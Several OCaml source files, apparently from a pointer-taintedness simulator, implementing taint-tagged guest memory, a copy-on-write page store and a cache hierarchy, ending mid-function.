let reset_stats t =
  t.st.hits <- 0;
  t.st.misses <- 0;
  t.st.tainted_lines_filled <- 0

module Hierarchy = struct
  type cache = t
  type nonrec t = { l1 : t; l2 : t; memory_latency : int }

  let create ?(l1 = l1_config) ?(l2 = l2_config) ~memory_latency () =
    { l1 = create l1; l2 = create l2; memory_latency }

  let access h ~addr ~write ~tainted =
    match access_line h.l1 ~addr ~write ~tainted with
    | Hit, _ -> h.l1.cfg.hit_latency
    | Miss, l1_line -> (
      match access_line h.l2 ~addr ~write ~tainted with
      | Hit, l2_line ->
        (* The refill brings the L2 line's bytes — and therefore its
           tag summary — into L1, not just the taint of this access. *)
        if l2_line.tainted then taint_filled_line h.l1 l1_line;
        h.l1.cfg.hit_latency + h.l2.cfg.hit_latency
      | Miss, _ -> h.l1.cfg.hit_latency + h.l2.cfg.hit_latency + h.memory_latency)

  let l1 h = h.l1
  let l2 h = h.l2
end
