(** Taint-extended guest memory.

    Sparse, paged, byte-addressable, little-endian memory in which
    every byte carries a taintedness bit, implementing the extended
    memory model of section 4.1.  Pages live in a {!Tagged_store} —
    one flat buffer per page holding the data plane and the taint
    plane side by side — with word-granularity fast paths.  Pages must
    be mapped (via {!map_range}) before access; touching an unmapped
    address raises {!Fault}, which the simulator reports as a
    segmentation fault — this is what an undetected wild dereference
    does to the guest. *)

type t

type access = Load | Store

exception Fault of { addr : int; access : access }

val create : unit -> t

val map_range : t -> lo:int -> bytes:int -> unit
(** Map all pages covering [lo, lo+bytes).  Idempotent. *)

val is_mapped : t -> int -> bool

(** {1 Byte and word access}  All addresses are masked to 32 bits.
    Each call counts as one logical access in {!stats}, whatever its
    width. *)

val load_byte : t -> int -> int * bool
val store_byte : t -> int -> int -> taint:bool -> unit
val load_word : t -> int -> Ptaint_taint.Tword.t
val store_word : t -> int -> Ptaint_taint.Tword.t -> unit

val load_half : t -> int -> int * Ptaint_taint.Mask.t
(** Zero-extended 16-bit load; mask occupies the two low byte-bits. *)

val store_half : t -> int -> int -> m:Ptaint_taint.Mask.t -> unit

val load_byte_t : t -> int -> Ptaint_taint.Tword.t
(** [load_byte] packed into an immediate word (zero-extended, mask in
    bit 0) — the CPU's allocation-free byte-load path. *)

val load_half_t : t -> int -> Ptaint_taint.Tword.t
(** [load_half] packed into an immediate word. *)

(** {1 Clean-plane access}

    Data-plane-only variants for the CPU's clean fast path, sound only
    while {!tainted_bytes} is [0].  Fault like the full accessors and
    count identically in {!stats} (but can never bump the tainted
    counters — there is no taint to move). *)

val tainted_bytes : t -> int
(** Exact number of live tainted memory bytes; [0] proves the whole
    taint plane is clean.  O(1) — maintained incrementally. *)

val load_byte_clean : t -> int -> int
val load_half_clean : t -> int -> int
val load_word_clean : t -> int -> int
val store_byte_clean : t -> int -> int -> unit
val store_half_clean : t -> int -> int -> unit
val store_word_clean : t -> int -> int -> unit

(** {1 Bulk access (host/OS side)} *)

val write_string : t -> int -> string -> taint:bool -> unit
val read_string : t -> int -> int -> string
val read_cstring : ?limit:int -> t -> int -> string
(** Read a NUL-terminated string (NUL excluded); stops at [limit]
    (default 65536) bytes. *)

(** {1 Taint ranges}  All three range operations raise {!Fault} on the
    first unmapped address they touch — including {!tainted_in_range},
    so a range probe cannot silently under-count an unmapped hole. *)

val taint_range : t -> int -> int -> unit
val untaint_range : t -> int -> int -> unit
val tainted_in_range : t -> int -> int -> int
(** Number of tainted bytes in [addr, addr+len). *)

val taint_summary : t -> int -> int -> bool
(** Whether any byte of [addr, addr+len) is tainted; unmapped bytes
    count as clean instead of faulting.  This is the probe hardware
    models (cache per-line tag summaries) use. *)

(** {1 Fault injection and invariant audit}

    {!Tagged_store} injection entry points lifted to this wrapper:
    addresses are masked to 32 bits and {!Tagged_store.Unmapped}
    becomes {!Fault}.  Injections model hardware faults, not guest
    accesses, so they never touch {!stats}. *)

val check_invariants : t -> unit
(** Audit the backing store: taint-plane recount vs the live counter,
    page-cache coherence.  Raises [Failure] on drift. *)

val inject_flip_data : t -> int -> bit:int -> unit
(** Flip one bit of the data byte at the address; taint plane and
    live counter untouched. *)

val inject_set_taint_range : t -> int -> int -> tainted:bool -> unit
(** Force the taint bit of every byte in [[addr, addr+len)] —
    [tainted:false] is the taint-loss fault, [tainted:true] spurious
    taint.  Data bytes untouched, live counter kept exact. *)

val inject_wipe_taint : t -> unit
(** Clear every taint bit (total taint loss); live counter kept
    exact (zero). *)

(** {1 Copy-on-write snapshots}

    A {!snapshot} freezes the full state (both planes plus {!stats})
    without copying page data; {!restore} rebuilds an independent
    memory from it, sharing pages copy-on-write.  Restoring and then
    re-running a deterministic guest is bit-identical to reloading
    from scratch.  One snapshot may be restored concurrently from
    several domains. *)

type snapshot

val snapshot : t -> snapshot
val restore : snapshot -> t

val reset_from_snapshot : t -> snapshot -> unit
(** In-place {!restore} for arena recycling: rewind [t] (both planes
    and {!stats}) to the snapshot without building a fresh memory.
    Observationally equivalent to [restore snap]; the snapshot may
    come from a different image than the one [t] last ran. *)

(** {1 Statistics} *)

type stats = {
  mutable loads : int;
  mutable stores : int;
  mutable tainted_loads : int;  (** loads returning >= 1 tainted byte *)
  mutable tainted_stores : int;
  mutable mapped_bytes : int;
}

val stats : t -> stats

val tagged : t -> Tagged_store.t
(** The backing tagged page store.  The block-threaded interpreter
    drives the store's inline fast-path accessors directly — catching
    {!Tagged_store.Unmapped} itself and bumping {!stats} in its
    execution loop — instead of paying a call plus an exception
    handler per access through this module's wrappers.  Any such
    caller must keep the {!stats} accounting identical to the
    wrappers' ({!load_word} etc.). *)
