open Ptaint_taint

type access = Load | Store

exception Fault of { addr : int; access : access }

type stats = {
  mutable loads : int;
  mutable stores : int;
  mutable tainted_loads : int;
  mutable tainted_stores : int;
  mutable mapped_bytes : int;
}

type t = { store : Tagged_store.t; st : stats }

type snapshot = { s_store : Tagged_store.snapshot; s_stats : stats }

let page_bytes = Layout.page_bytes
let mask32 = Ptaint_isa.Word.mask32

let create () =
  { store = Tagged_store.create ();
    st = { loads = 0; stores = 0; tainted_loads = 0; tainted_stores = 0; mapped_bytes = 0 } }

let stats t = t.st
let tagged t = t.store

let map_page t idx =
  if Tagged_store.map_page t.store idx then
    t.st.mapped_bytes <- t.st.mapped_bytes + page_bytes

let map_range t ~lo ~bytes =
  if bytes > 0 then
    for idx = lo / page_bytes to (lo + bytes - 1) / page_bytes do
      map_page t idx
    done

let is_mapped t addr = Tagged_store.is_mapped t.store ((addr land mask32) / page_bytes)

let fault a access = raise (Fault { addr = a; access })

let load_byte t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_byte t.store addr with
  | (_, taint) as r ->
    t.st.loads <- t.st.loads + 1;
    if taint then t.st.tainted_loads <- t.st.tainted_loads + 1;
    r
  | exception Tagged_store.Unmapped a -> fault a Load

let store_byte t addr v ~taint =
  let addr = addr land mask32 in
  match Tagged_store.store_byte t.store addr v ~taint with
  | () ->
    t.st.stores <- t.st.stores + 1;
    if taint then t.st.tainted_stores <- t.st.tainted_stores + 1
  | exception Tagged_store.Unmapped a -> fault a Store

let load_word t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_word t.store addr with
  | w ->
    t.st.loads <- t.st.loads + 1;
    if Tword.is_tainted w then t.st.tainted_loads <- t.st.tainted_loads + 1;
    w
  | exception Tagged_store.Unmapped a -> fault a Load

let store_word t addr w =
  let addr = addr land mask32 in
  match Tagged_store.store_word t.store addr w with
  | () ->
    t.st.stores <- t.st.stores + 1;
    if Tword.is_tainted w then t.st.tainted_stores <- t.st.tainted_stores + 1
  | exception Tagged_store.Unmapped a -> fault a Store

(* Half accesses are one logical access, like the byte and word paths,
   so Diagnostics/Report load/store counts are width-independent. *)
let load_half t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_half t.store addr with
  | (_, m) as r ->
    t.st.loads <- t.st.loads + 1;
    if Mask.is_tainted m then t.st.tainted_loads <- t.st.tainted_loads + 1;
    r
  | exception Tagged_store.Unmapped a -> fault a Load

let store_half t addr v ~m =
  let addr = addr land mask32 in
  match Tagged_store.store_half t.store addr v ~m with
  | () ->
    t.st.stores <- t.st.stores + 1;
    if Mask.is_tainted m then t.st.tainted_stores <- t.st.tainted_stores + 1
  | exception Tagged_store.Unmapped a -> fault a Store

(* Packed variants for the CPU hot path: same semantics, result in a
   single immediate Tword (no tuple allocation). *)

let load_byte_t t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_byte t.store addr with
  | b, taint ->
    t.st.loads <- t.st.loads + 1;
    if taint then begin
      t.st.tainted_loads <- t.st.tainted_loads + 1;
      Tword.make ~v:b ~m:1
    end
    else Tword.untainted b
  | exception Tagged_store.Unmapped a -> fault a Load

let load_half_t t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_half t.store addr with
  | v, m ->
    t.st.loads <- t.st.loads + 1;
    if Mask.is_tainted m then t.st.tainted_loads <- t.st.tainted_loads + 1;
    Tword.make ~v ~m
  | exception Tagged_store.Unmapped a -> fault a Load

(* Clean-plane variants: data plane only, valid while [tainted_bytes]
   is 0.  They keep the same logical access counts as the full
   accessors so diagnostics cannot tell which engine ran. *)

let tainted_bytes t = Tagged_store.tainted_bytes t.store

let load_byte_clean t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_byte_clean t.store addr with
  | b -> t.st.loads <- t.st.loads + 1; b
  | exception Tagged_store.Unmapped a -> fault a Load

let load_half_clean t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_half_clean t.store addr with
  | v -> t.st.loads <- t.st.loads + 1; v
  | exception Tagged_store.Unmapped a -> fault a Load

let load_word_clean t addr =
  let addr = addr land mask32 in
  match Tagged_store.load_word_clean t.store addr with
  | v -> t.st.loads <- t.st.loads + 1; v
  | exception Tagged_store.Unmapped a -> fault a Load

let store_byte_clean t addr v =
  let addr = addr land mask32 in
  match Tagged_store.store_byte_clean t.store addr v with
  | () -> t.st.stores <- t.st.stores + 1
  | exception Tagged_store.Unmapped a -> fault a Store

let store_half_clean t addr v =
  let addr = addr land mask32 in
  match Tagged_store.store_half_clean t.store addr v with
  | () -> t.st.stores <- t.st.stores + 1
  | exception Tagged_store.Unmapped a -> fault a Store

let store_word_clean t addr v =
  let addr = addr land mask32 in
  match Tagged_store.store_word_clean t.store addr v with
  | () -> t.st.stores <- t.st.stores + 1
  | exception Tagged_store.Unmapped a -> fault a Store

let write_string t addr s ~taint =
  String.iteri (fun i c -> store_byte t (addr + i) (Char.code c) ~taint) s

let read_string t addr len = String.init len (fun i -> Char.chr (fst (load_byte t (addr + i))))

let read_cstring ?(limit = 65536) t addr =
  let buf = Buffer.create 32 in
  let rec go i =
    if i < limit then begin
      let b, _ = load_byte t (addr + i) in
      if b <> 0 then begin
        Buffer.add_char buf (Char.chr b);
        go (i + 1)
      end
    end
  in
  go 0;
  Buffer.contents buf

let taint_range t addr len =
  let addr = addr land mask32 in
  try Tagged_store.taint_range t.store addr len
  with Tagged_store.Unmapped a -> fault a Store

let untaint_range t addr len =
  let addr = addr land mask32 in
  try Tagged_store.untaint_range t.store addr len
  with Tagged_store.Unmapped a -> fault a Store

let tainted_in_range t addr len =
  let addr = addr land mask32 in
  try Tagged_store.tainted_in_range t.store addr len
  with Tagged_store.Unmapped a -> fault a Load

let taint_summary t addr len = Tagged_store.taint_summary t.store (addr land mask32) len

(* Fault-injection entry points: hardware faults, not guest accesses,
   so none of them touch [stats]. *)

let check_invariants t = Tagged_store.check_invariants t.store

let inject_flip_data t addr ~bit =
  let addr = addr land mask32 in
  try Tagged_store.inject_flip_data t.store addr ~bit
  with Tagged_store.Unmapped a -> fault a Store

let inject_set_taint_range t addr len ~tainted =
  let addr = addr land mask32 in
  try Tagged_store.inject_set_taint_range t.store addr len ~tainted
  with Tagged_store.Unmapped a -> fault a Store

let inject_wipe_taint t = Tagged_store.inject_wipe_taint t.store

let copy_stats st =
  { loads = st.loads;
    stores = st.stores;
    tainted_loads = st.tainted_loads;
    tainted_stores = st.tainted_stores;
    mapped_bytes = st.mapped_bytes }

let snapshot t = { s_store = Tagged_store.snapshot t.store; s_stats = copy_stats t.st }

let restore snap = { store = Tagged_store.restore snap.s_store; st = copy_stats snap.s_stats }

let reset_from_snapshot t snap =
  Tagged_store.reset_from_snapshot t.store snap.s_store;
  t.st.loads <- snap.s_stats.loads;
  t.st.stores <- snap.s_stats.stores;
  t.st.tainted_loads <- snap.s_stats.tainted_loads;
  t.st.tainted_stores <- snap.s_stats.tainted_stores;
  t.st.mapped_bytes <- snap.s_stats.mapped_bytes
