open Ptaint_taint

type access = Load | Store

exception Fault of { addr : int; access : access }

type page = { data : Bytes.t; taint : Bytes.t }

type stats = {
  mutable loads : int;
  mutable stores : int;
  mutable tainted_loads : int;
  mutable tainted_stores : int;
  mutable mapped_bytes : int;
}

type t = { pages : (int, page) Hashtbl.t; st : stats }

let page_bytes = Layout.page_bytes

let create () =
  { pages = Hashtbl.create 256;
    st = { loads = 0; stores = 0; tainted_loads = 0; tainted_stores = 0; mapped_bytes = 0 } }

let stats t = t.st

let map_page t idx =
  if not (Hashtbl.mem t.pages idx) then begin
    Hashtbl.replace t.pages idx
      { data = Bytes.make page_bytes '\000'; taint = Bytes.make page_bytes '\000' };
    t.st.mapped_bytes <- t.st.mapped_bytes + page_bytes
  end

let map_range t ~lo ~bytes =
  if bytes > 0 then
    for idx = lo / page_bytes to (lo + bytes - 1) / page_bytes do
      map_page t idx
    done

let is_mapped t addr = Hashtbl.mem t.pages ((addr land Ptaint_isa.Word.mask32) / page_bytes)

let page_for t addr access =
  match Hashtbl.find_opt t.pages (addr / page_bytes) with
  | Some p -> p
  | None -> raise (Fault { addr; access })

let load_byte t addr =
  let addr = addr land Ptaint_isa.Word.mask32 in
  let p = page_for t addr Load in
  let off = addr land (page_bytes - 1) in
  t.st.loads <- t.st.loads + 1;
  let taint = Bytes.get p.taint off <> '\000' in
  if taint then t.st.tainted_loads <- t.st.tainted_loads + 1;
  (Char.code (Bytes.get p.data off), taint)

let store_byte t addr v ~taint =
  let addr = addr land Ptaint_isa.Word.mask32 in
  let p = page_for t addr Store in
  let off = addr land (page_bytes - 1) in
  t.st.stores <- t.st.stores + 1;
  if taint then t.st.tainted_stores <- t.st.tainted_stores + 1;
  Bytes.set p.data off (Char.chr (v land 0xff));
  Bytes.set p.taint off (if taint then '\001' else '\000')

(* Words may straddle a page boundary (unaligned loads are legal at
   the memory level; the CPU enforces alignment), so the fast path
   checks that all four bytes land in one page. *)
let load_word t addr =
  let addr = addr land Ptaint_isa.Word.mask32 in
  let off = addr land (page_bytes - 1) in
  if off <= page_bytes - 4 then begin
    let p = page_for t addr Load in
    t.st.loads <- t.st.loads + 1;
    let b i = Char.code (Bytes.get p.data (off + i)) in
    let ta i = Bytes.get p.taint (off + i) <> '\000' in
    let v = b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24) in
    let m = Mask.of_bools [ ta 0; ta 1; ta 2; ta 3 ] in
    if Mask.is_tainted m then t.st.tainted_loads <- t.st.tainted_loads + 1;
    Tword.make ~v ~m
  end
  else begin
    let v = ref 0 and m = ref Mask.none in
    for i = 3 downto 0 do
      let b, ta = load_byte t (addr + i) in
      v := (!v lsl 8) lor b;
      if ta then m := Mask.set_byte !m i
    done;
    Tword.make ~v:!v ~m:!m
  end

let store_word t addr w =
  let addr = addr land Ptaint_isa.Word.mask32 in
  let off = addr land (page_bytes - 1) in
  let v = Tword.value w and m = Tword.mask w in
  if off <= page_bytes - 4 then begin
    let p = page_for t addr Store in
    t.st.stores <- t.st.stores + 1;
    if Mask.is_tainted m then t.st.tainted_stores <- t.st.tainted_stores + 1;
    for i = 0 to 3 do
      Bytes.set p.data (off + i) (Char.chr ((v lsr (8 * i)) land 0xff));
      Bytes.set p.taint (off + i) (if Mask.byte m i then '\001' else '\000')
    done
  end
  else
    for i = 0 to 3 do
      store_byte t (addr + i) ((v lsr (8 * i)) land 0xff) ~taint:(Mask.byte m i)
    done

let load_half t addr =
  let b0, t0 = load_byte t addr in
  let b1, t1 = load_byte t (addr + 1) in
  (b0 lor (b1 lsl 8), Mask.of_bools [ t0; t1 ])

let store_half t addr v ~m =
  store_byte t addr (v land 0xff) ~taint:(Mask.byte m 0);
  store_byte t (addr + 1) ((v lsr 8) land 0xff) ~taint:(Mask.byte m 1)

let write_string t addr s ~taint =
  String.iteri (fun i c -> store_byte t (addr + i) (Char.code c) ~taint) s

let read_string t addr len = String.init len (fun i -> Char.chr (fst (load_byte t (addr + i))))

let read_cstring ?(limit = 65536) t addr =
  let buf = Buffer.create 32 in
  let rec go i =
    if i < limit then begin
      let b, _ = load_byte t (addr + i) in
      if b <> 0 then begin
        Buffer.add_char buf (Char.chr b);
        go (i + 1)
      end
    end
  in
  go 0;
  Buffer.contents buf

let taint_range t addr len =
  for i = 0 to len - 1 do
    let a = addr + i in
    let p = page_for t a Store in
    Bytes.set p.taint (a land (page_bytes - 1)) '\001'
  done

let untaint_range t addr len =
  for i = 0 to len - 1 do
    let a = addr + i in
    let p = page_for t a Store in
    Bytes.set p.taint (a land (page_bytes - 1)) '\000'
  done

let tainted_in_range t addr len =
  let count = ref 0 in
  for i = 0 to len - 1 do
    let a = addr + i in
    match Hashtbl.find_opt t.pages (a / page_bytes) with
    | Some p -> if Bytes.get p.taint (a land (page_bytes - 1)) <> '\000' then incr count
    | None -> ()
  done;
  !count
