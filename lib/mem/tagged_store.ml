open Ptaint_taint

(* Each 4 KiB page is one Bigarray of [page_words] native ints, one
   element per aligned guest word, holding exactly the packed
   {!Tword} bits: value byte [k] in bits [8k, 8k+8), taint bit for
   byte [k] at bit [32 + k].  An aligned word load is therefore a
   single array read ([Tword.of_bits]), an aligned word store a read
   (for the live-taint counter delta) plus a write — the dominant
   cost of the interpreter's memory path. *)
type plane = (int, Bigarray.int_elt, Bigarray.c_layout) Bigarray.Array1.t

type page = { mutable plane : plane; mutable shared : bool }

(* [tainted] is the exact number of live tainted bytes across every
   mapped page, maintained incrementally by each taint-plane writer.
   The CPU's clean fast path keys off [tainted = 0]: in that state
   every element's taint nibble is provably zero, so loads and stores
   may skip the taint algebra entirely (see the [*_clean] accessors).

   [cache_idx]/[cache_page] form a direct-mapped page-lookup cache in
   front of the hashtable: pages are never unmapped, so a cached
   (index, page-record) pair can never go stale — COW clones mutate
   the page record in place.  This takes the generic hash + bucket
   walk + option allocation of [Hashtbl.find_opt] off the guest
   memory-access path. *)
type t = {
  pages : (int, page) Hashtbl.t;
  mutable tainted : int;
  cache_idx : int array;
  cache_page : page array;
}

type snapshot = { snap_pages : (int * plane) array; snap_tainted : int }

exception Unmapped of int

let page_bytes = Layout.page_bytes
let page_mask = page_bytes - 1
let page_words = page_bytes / 4
let () = assert (page_bytes = 1 lsl 12)

(* Popcount of a 4-bit taint nibble — the tainted-byte count of one
   word element. *)
let pop4 = [| 0; 1; 1; 2; 1; 2; 2; 3; 1; 2; 2; 3; 2; 3; 3; 4 |]

let alloc_plane () =
  let p = Bigarray.Array1.create Bigarray.int Bigarray.c_layout page_words in
  Bigarray.Array1.fill p 0;
  p

let cache_slots = 64

(* Placeholder page record filling the cache's page slots while their
   index slot still holds the -1 sentinel; never dereferenced. *)
let dummy_page =
  { plane = Bigarray.Array1.create Bigarray.int Bigarray.c_layout 0; shared = true }

let create () =
  { pages = Hashtbl.create 256;
    tainted = 0;
    cache_idx = Array.make cache_slots (-1);
    cache_page = Array.make cache_slots dummy_page }

let map_page t idx =
  if Hashtbl.mem t.pages idx then false
  else begin
    Hashtbl.replace t.pages idx { plane = alloc_plane (); shared = false };
    true
  end

let is_mapped t idx = Hashtbl.mem t.pages idx

let mapped_pages t = Hashtbl.length t.pages

let[@inline] tainted_bytes t = t.tainted

let page_miss t addr idx slot =
  match Hashtbl.find_opt t.pages idx with
  | Some p ->
    Array.unsafe_set t.cache_idx slot idx;
    Array.unsafe_set t.cache_page slot p;
    p
  | None -> raise (Unmapped addr)

(* The cache-hit path is forced inline so a hot memory access compiles
   to two array loads and a compare; the miss path stays out of line. *)
let[@inline] page_for t addr =
  let idx = addr lsr 12 in
  let slot = idx land (cache_slots - 1) in
  if Array.unsafe_get t.cache_idx slot = idx then Array.unsafe_get t.cache_page slot
  else page_miss t addr idx slot

let clone_page p =
  let fresh = alloc_plane () in
  Bigarray.Array1.blit p.plane fresh;
  p.plane <- fresh;
  p.shared <- false

(* Reads never copy; the first write to a page shared with a snapshot
   clones its plane so snapshot holders keep the original bytes. *)
let[@inline] read_plane t addr = (page_for t addr).plane

let[@inline] write_plane t addr =
  let p = page_for t addr in
  if p.shared then clone_page p;
  p.plane

(* NB: [Bigarray.Array1.unsafe_get]/[unsafe_set] must be fully
   applied at each call site — aliasing the externals would compile
   every plane access into an out-of-line call instead of a single
   load/store. *)

(* --- byte (read-modify-write of the containing word element) --- *)

let[@inline] load_byte t addr =
  let elt =
    Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)
  in
  let k = addr land 3 in
  ((elt lsr (k lsl 3)) land 0xff, elt land (1 lsl (32 + k)) <> 0)

let[@inline] store_byte t addr v ~taint =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let k = addr land 3 in
  let elt = Bigarray.Array1.unsafe_get pl wi in
  let vshift = k lsl 3 in
  let tb = 1 lsl (32 + k) in
  let cleared = elt land lnot ((0xff lsl vshift) lor tb) in
  let nt = if taint then 1 else 0 in
  let ot = if elt land tb <> 0 then 1 else 0 in
  if nt <> ot then t.tainted <- t.tainted + nt - ot;
  Bigarray.Array1.unsafe_set pl wi
    (cleared lor ((v land 0xff) lsl vshift) lor (nt lsl (32 + k)))

(* --- CPU fast-path accessors ---

   The interpreter checks alignment before every word/half access, so
   these skip the alignment branch and the byte-walk fallback; they
   are forced inline into the execution loop (which also catches
   {!Unmapped} itself rather than paying a per-access handler). *)

let[@inline] load_word_aligned t addr =
  Tword.of_bits
    (Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2))

let[@inline] store_word_aligned t addr w =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let bits = Tword.to_bits w in
  let old = Bigarray.Array1.unsafe_get pl wi in
  if old lsr 32 <> bits lsr 32 then
    t.tainted <-
      t.tainted + Array.unsafe_get pop4 (bits lsr 32) - Array.unsafe_get pop4 (old lsr 32);
  Bigarray.Array1.unsafe_set pl wi bits

let[@inline] load_word_elt t addr =
  Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)

let[@inline] load_byte_tw t addr =
  let elt =
    Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)
  in
  let k = addr land 3 in
  Tword.make ~v:((elt lsr (k lsl 3)) land 0xff) ~m:((elt lsr (32 + k)) land 1)

let[@inline] load_half_even t addr =
  let elt =
    Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)
  in
  let k = addr land 3 in
  Tword.make ~v:((elt lsr (k lsl 3)) land 0xffff) ~m:((elt lsr (32 + k)) land 3)

let[@inline] store_half_even t addr v ~m =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let k = addr land 3 in
  let elt = Bigarray.Array1.unsafe_get pl wi in
  let vshift = k lsl 3 in
  let m = m land 3 in
  let cleared = elt land lnot ((0xffff lsl vshift) lor (3 lsl (32 + k))) in
  let old = (elt lsr (32 + k)) land 3 in
  if m <> old then
    t.tainted <- t.tainted + Array.unsafe_get pop4 m - Array.unsafe_get pop4 old;
  Bigarray.Array1.unsafe_set pl wi
    (cleared lor ((v land 0xffff) lsl vshift) lor (m lsl (32 + k)))

(* --- word (any alignment; the unaligned path walks bytes, which also
   handles the page-boundary crossing) --- *)

let load_word t addr =
  if addr land 3 = 0 then load_word_aligned t addr
  else begin
    let v = ref 0 and m = ref 0 in
    for i = 3 downto 0 do
      let b, ta = load_byte t (addr + i) in
      v := (!v lsl 8) lor b;
      if ta then m := !m lor (1 lsl i)
    done;
    Tword.make ~v:!v ~m:!m
  end

let store_word t addr w =
  if addr land 3 = 0 then store_word_aligned t addr w
  else begin
    let v = Tword.value w and m = Tword.mask w in
    for i = 0 to 3 do
      store_byte t (addr + i) ((v lsr (8 * i)) land 0xff) ~taint:(m land (1 lsl i) <> 0)
    done
  end

(* --- half-word (an even address never crosses a word, so the fast
   path is one element access) --- *)

let load_half t addr =
  if addr land 1 = 0 then begin
    let w = load_half_even t addr in
    (Tword.value w, Tword.mask w)
  end
  else begin
    let b0, t0 = load_byte t addr in
    let b1, t1 = load_byte t (addr + 1) in
    (b0 lor (b1 lsl 8), (if t0 then 1 else 0) lor if t1 then 2 else 0)
  end

let store_half t addr v ~m =
  if addr land 1 = 0 then store_half_even t addr v ~m
  else begin
    store_byte t addr (v land 0xff) ~taint:(m land 1 <> 0);
    store_byte t (addr + 1) ((v lsr 8) land 0xff) ~taint:(m land 2 <> 0)
  end

(* --- clean-plane accessors (the CPU's clean fast path) ---

   Valid only while [tainted = 0]: every element's taint nibble is
   zero, so an aligned word element *is* its value, loads skip the
   mask extraction and stores write the bare value (leaving the
   nibble zero).  The misalignment check upstream guarantees the CPU
   never crosses a page with these, but the byte-walk fallback keeps
   them total anyway. *)

let[@inline] load_byte_clean t addr =
  let elt =
    Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)
  in
  (elt lsr ((addr land 3) lsl 3)) land 0xff

let[@inline] store_byte_clean t addr v =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let vshift = (addr land 3) lsl 3 in
  let elt = Bigarray.Array1.unsafe_get pl wi in
  Bigarray.Array1.unsafe_set pl wi
    ((elt land lnot (0xff lsl vshift)) lor ((v land 0xff) lsl vshift))

let[@inline] load_word_clean_aligned t addr =
  Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)

let[@inline] store_word_clean_aligned t addr v =
  Bigarray.Array1.unsafe_set (write_plane t addr) ((addr land page_mask) lsr 2)
    (v land 0xFFFFFFFF)

let[@inline] load_half_clean_even t addr =
  let elt =
    Bigarray.Array1.unsafe_get (read_plane t addr) ((addr land page_mask) lsr 2)
  in
  (elt lsr ((addr land 3) lsl 3)) land 0xffff

let[@inline] store_half_clean_even t addr v =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let vshift = (addr land 3) lsl 3 in
  let elt = Bigarray.Array1.unsafe_get pl wi in
  Bigarray.Array1.unsafe_set pl wi
    ((elt land lnot (0xffff lsl vshift)) lor ((v land 0xffff) lsl vshift))

let load_word_clean t addr =
  if addr land 3 = 0 then load_word_clean_aligned t addr
  else begin
    let v = ref 0 in
    for i = 3 downto 0 do
      v := (!v lsl 8) lor load_byte_clean t (addr + i)
    done;
    !v
  end

let store_word_clean t addr v =
  if addr land 3 = 0 then store_word_clean_aligned t addr v
  else
    for i = 0 to 3 do
      store_byte_clean t (addr + i) ((v lsr (8 * i)) land 0xff)
    done

let load_half_clean t addr =
  if addr land 1 = 0 then load_half_clean_even t addr
  else load_byte_clean t addr lor (load_byte_clean t (addr + 1) lsl 8)

let store_half_clean t addr v =
  if addr land 1 = 0 then store_half_clean_even t addr v
  else begin
    store_byte_clean t addr (v land 0xff);
    store_byte_clean t (addr + 1) ((v lsr 8) land 0xff)
  end

(* --- ranges (word-at-a-time over the taint nibbles; the byte path
   handles unaligned edges and page boundaries) --- *)

let set_taint_bit t addr fill =
  let pl = write_plane t addr in
  let wi = (addr land page_mask) lsr 2 in
  let elt = Bigarray.Array1.unsafe_get pl wi in
  let tb = 1 lsl (32 + (addr land 3)) in
  let ot = if elt land tb <> 0 then 1 else 0 in
  if ot <> fill then begin
    t.tainted <- t.tainted + fill - ot;
    Bigarray.Array1.unsafe_set pl wi (elt lxor tb)
  end

let fill_taint t addr len fill =
  let nib = fill * 0xf in
  let a = ref addr and remaining = ref len in
  while !remaining > 0 do
    let addr = !a in
    let off = addr land page_mask in
    if addr land 3 = 0 && !remaining >= 4 then begin
      let words = min (!remaining lsr 2) ((page_bytes - off) lsr 2) in
      let pl = write_plane t addr in
      let w0 = off lsr 2 in
      for wi = w0 to w0 + words - 1 do
        let elt = Bigarray.Array1.unsafe_get pl wi in
        t.tainted <- t.tainted + (fill lsl 2) - Array.unsafe_get pop4 (elt lsr 32);
        Bigarray.Array1.unsafe_set pl wi ((elt land 0xFFFFFFFF) lor (nib lsl 32))
      done;
      a := addr + (words lsl 2);
      remaining := !remaining - (words lsl 2)
    end
    else begin
      set_taint_bit t addr fill;
      incr a;
      decr remaining
    end
  done

let taint_range t addr len = if len > 0 then fill_taint t addr len 1
let untaint_range t addr len = if len > 0 then fill_taint t addr len 0

let tainted_in_range t addr len =
  let count = ref 0 in
  let a = ref addr and remaining = ref len in
  while !remaining > 0 do
    let addr = !a in
    let off = addr land page_mask in
    if addr land 3 = 0 && !remaining >= 4 then begin
      let words = min (!remaining lsr 2) ((page_bytes - off) lsr 2) in
      let pl = read_plane t addr in
      let w0 = off lsr 2 in
      for wi = w0 to w0 + words - 1 do
        count :=
          !count + Array.unsafe_get pop4 (Bigarray.Array1.unsafe_get pl wi lsr 32)
      done;
      a := addr + (words lsl 2);
      remaining := !remaining - (words lsl 2)
    end
    else begin
      let _, ta = load_byte t addr in
      if ta then incr count;
      incr a;
      decr remaining
    end
  done;
  !count

(* Fault-free taint summary, for hardware models (cache line tag
   summaries) that probe addresses the guest never mapped. *)
let taint_summary t addr len =
  let tainted = ref false in
  let a = ref addr and remaining = ref len in
  while (not !tainted) && !remaining > 0 do
    let addr = !a in
    let off = addr land page_mask in
    let chunk = min !remaining (page_bytes - off) in
    (match Hashtbl.find_opt t.pages (addr lsr 12) with
     | None -> ()
     | Some p ->
